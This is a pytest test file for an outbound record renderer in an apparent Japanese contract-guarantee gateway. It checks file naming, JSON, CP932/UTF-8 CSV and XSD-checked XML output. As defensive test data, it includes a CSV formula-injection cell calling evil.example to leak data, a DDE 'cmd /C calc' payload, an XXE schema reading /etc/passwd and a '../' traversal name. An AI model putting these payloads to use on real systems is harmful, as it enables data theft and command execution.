"""What a sink sends: file names, and records in JSON, XSD-checked XML and CSV (UTF-8 / CP932)."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest

from connectors.outbound import ContentSpec, RecordSpec, check_spec, render_outbound
from core.errors import ConfigError, GatewayError
from core.outbound_types import GuaranteeRecord
from tests.contract.test_sinks import content

FIELDS = {
    "契約番号": "management_number",
    "件名": "title",
    "契約相手方": "contractor_name",
    "契約金額": "amount",
    "締結日": "concluded_on",
    "前払金保証_保証契約番号": "guarantee.advance.contract_number",
    "前払金保証_認証キー": "guarantee.advance.authentication_key",
    "契約保証_保証契約番号": "guarantee.contract.contract_number",
    "保証機関": "guarantees.1.issuer",
    "冪等キー": "idempotency_key",
}

XSD = """<?xml version="1.0" encoding="UTF-8"?>
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
  <xs:element name="契約">
    <xs:complexType><xs:sequence>
      <xs:element name="契約番号" type="xs:string"/>
      <xs:element name="契約金額" type="xs:nonNegativeInteger"/>
      <xs:element name="保証">
        <xs:complexType><xs:sequence>
          <xs:element name="guarantee" minOccurs="0" maxOccurs="unbounded">
            <xs:complexType><xs:sequence>
              <xs:element name="kind" type="xs:string"/>
              <xs:element name="kind_ja" type="xs:string"/>
              <xs:element name="contract_number" type="xs:string"/>
              <xs:element name="issuer" type="xs:string"/>
            </xs:sequence></xs:complexType>
          </xs:element>
        </xs:sequence></xs:complexType>
      </xs:element>
    </xs:sequence></xs:complexType>
  </xs:element>
</xs:schema>
"""


def _record(out: object) -> bytes:
    (record,) = [f for f in out.files if f.role == "record"]  # type: ignore[attr-defined]
    return bytes(record.data)


def test_files_are_named_from_templates_and_made_safe() -> None:
    c = content(7)
    docs = (*c.documents, replace(c.documents[0], name="../工事請負契約書.pdf"))
    spec = ContentSpec(
        document_name="{concluded_on}_{management_number}_{index}_{document}.pdf",
        certificate_name="{management_number}/締結証明書.pdf",
        directory="{concluded_on}/{management_number}",
    )
    out = render_outbound(replace(c, documents=docs), spec, "k")
    assert out.directory == "20261122/KG-20261122-0007"
    assert [f.name for f in out.files] == [
        "20261122_KG-20261122-0007_1_工事請負契約書.pdf",
        "20261122_KG-20261122-0007_2_.._工事請負契約書.pdf",
        "KG-20261122-0007_締結証明書.pdf",  # "/" cannot leave the folder
    ]
    twice = ContentSpec(document_name="{management_number}.pdf", certificate=False)
    out = render_outbound(replace(c, documents=docs), twice, "k")
    assert [f.name for f in out.files] == ["KG-20261122-0007.pdf", "KG-20261122-0007_2.pdf"]


def test_json_record_with_guarantees() -> None:
    spec = ContentSpec(
        documents=False,
        certificate=False,
        record=RecordSpec(
            format="json",
            fields={"contract": "management_number", "guarantees": "guarantees"},
        ),
    )
    out = render_outbound(content(), spec, "key-1")
    (file,) = out.files
    assert file.name == "KG-20261122-0001.json" and file.media_type == "application/json"
    data = json.loads(file.data)
    assert data["guarantees"][0]["contract_number"] == "2070004426"
    assert "authentication_key" not in data["guarantees"][0]  # only guarantees_with_keys has it
    assert spec.guarantee_keys is False


@pytest.mark.parametrize("encoding", ["cp932", "utf-8", "utf-8-sig"])
def test_csv_record(encoding: str) -> None:
    c = replace(content(), facts={**content().facts, "title": "舗装補修工事〜第２工区−Ａ—北"})
    spec = ContentSpec(
        documents=False,
        certificate=False,
        record=RecordSpec(format="csv", fields=FIELDS, encoding=encoding),
    )
    assert spec.guarantee_keys is True
    data = _record(render_outbound(c, spec, "finance:env0001:completed"))
    text = data.decode(encoding)
    assert text.endswith("\r\n") and text.count("\r\n") == 2
    header, row = list(csv.reader(io.StringIO(text)))
    assert header == list(FIELDS)
    values = dict(zip(header, row, strict=True))
    assert values["契約金額"] == "31389000" and values["締結日"] == "2026-11-22"
    assert values["前払金保証_認証キー"] == "Q7xK2mP9aZ"
    assert values["契約保証_保証契約番号"] == ""  # none of that kind
    assert values["冪等キー"] == "finance:env0001:completed"
    if encoding == "cp932":
        # 〜 − — have no CP932 form: written as their CP932 look-alikes, never as "?".
        assert values["件名"] == "舗装補修工事～第２工区－Ａ―北"
        assert b"?" not in data
    else:
        assert values["件名"] == "舗装補修工事〜第２工区−Ａ—北"
        assert data.startswith(b"\xef\xbb\xbf") == (encoding == "utf-8-sig")


@pytest.mark.parametrize("encoding", ["cp932", "utf-8"])
def test_csv_record_cells_never_run_as_formulas(encoding: str) -> None:
    facts = {
        **content().facts,
        "title": '=HYPERLINK("http://evil.example/?"&A1,"請書")',
        "contractor_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    spec = ContentSpec(
        documents=False,
        certificate=False,
        record=RecordSpec(format="csv", fields=FIELDS, encoding=encoding),
    )
    data = _record(render_outbound(replace(content(), facts=facts), spec, "k"))
    header, row = list(csv.reader(io.StringIO(data.decode(encoding))))
    values = dict(zip(header, row, strict=True))
    assert values["件名"] == '\'=HYPERLINK("http://evil.example/?"&A1,"請書")'
    assert values["契約相手方"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert values["契約金額"] == "31389000"


def test_a_character_cp932_cannot_hold_refuses_the_record() -> None:
    c = replace(content(), facts={**content().facts, "contractor_name": "𠮷野家建設"})
    spec = ContentSpec(record=RecordSpec(format="csv", fields=FIELDS, encoding="cp932"))
    with pytest.raises(GatewayError) as info:
        render_outbound(c, spec, "k")
    assert info.value.code == "outbound.unencodable" and not info.value.retriable
    assert info.value.details == {"field": "契約相手方", "character": "U+20BB7"}


def test_xml_record_is_checked_against_the_xsd(tmp_path: Path) -> None:
    xsd = tmp_path / "contract.xsd"
    xsd.write_text(XSD, encoding="utf-8")
    record = RecordSpec(
        format="xml",
        xml_root="契約",
        fields={"契約番号": "management_number", "契約金額": "amount", "保証": "guarantees"},
        xsd=xsd,
    )
    spec = ContentSpec(documents=False, certificate=False, record=record)
    check_spec(spec)
    data = _record(render_outbound(content(), spec, "k"))
    assert data.startswith(b"<?xml") and "<契約番号>KG-20261122-0001</契約番号>" in data.decode()
    assert "<contract_number>2070004426</contract_number>" in data.decode()
    # A value the schema refuses sends the delivery to dead with the reason.
    bad = replace(content(), facts={**content().facts, "amount": None})
    with pytest.raises(GatewayError) as info:
        render_outbound(bad, spec, "k")
    assert info.value.code == "outbound.invalid_record" and not info.value.retriable
    assert "契約金額" in info.value.message_en
    # Extra guarantees values the schema does not declare are refused too.
    keys = replace(record, fields={**record.fields, "保証": "guarantees_with_keys"})
    with pytest.raises(GatewayError, match="invalid_record"):
        render_outbound(content(), replace(spec, record=keys), "k")


def test_a_schema_with_an_external_entity_is_not_loaded(tmp_path: Path) -> None:
    evil = tmp_path / "evil.xsd"
    evil.write_text(
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:element name="a">'
        "<xs:annotation><xs:documentation>&e;</xs:documentation></xs:annotation>"
        "</xs:element></xs:schema>"
    )
    record = RecordSpec(format="xml", fields={"a": "title"}, xml_root="a", xsd=evil)
    with pytest.raises(ConfigError):
        check_spec(ContentSpec(record=record))


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        (ContentSpec(document_name="{nope}.pdf"), "nope"),
        (
            ContentSpec(record=RecordSpec(format="json", fields={"a": "secret_sauce"})),
            "secret_sauce",
        ),
        (
            ContentSpec(record=RecordSpec(format="json", fields={"a": "guarantee.bid.issuer"})),
            "kind",
        ),
        (ContentSpec(record=RecordSpec(format="json", fields={"a": "guarantees.1.pin"})), "pin"),
        (ContentSpec(record=RecordSpec(format="csv", fields={"a": "guarantees"})), "single"),
        (ContentSpec(record=RecordSpec(format="xml", fields={"1a": "title"})), "XML"),
        (
            ContentSpec(record=RecordSpec(format="json", fields={"a": "title"}, encoding="cp932")),
            "cp932",
        ),
    ],
)
def test_bad_specs_are_refused_at_start(spec: ContentSpec, message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        check_spec(spec)


def test_guarantee_lookups_by_position_and_kind() -> None:
    two = replace(
        content(),
        guarantees=(
            GuaranteeRecord(
                "contract", "契約保証", "2070202096", "東日本建設業保証株式会社", "K1k1k1k1"
            ),
            *content().guarantees,
        ),
    )
    spec = ContentSpec(
        record=RecordSpec(
            format="json",
            fields={
                "first": "guarantees.1.contract_number",
                "second_issuer": "guarantees.2.issuer",
                "third": "guarantees.3.contract_number",
                "advance": "guarantee.advance.contract_number",
            },
        )
    )
    data = json.loads(_record(render_outbound(two, spec, "k")))
    assert data == {
        "first": "2070202096",
        "second_issuer": "西日本建設業保証株式会社",
        "third": "",
        "advance": "2070004426",
    }
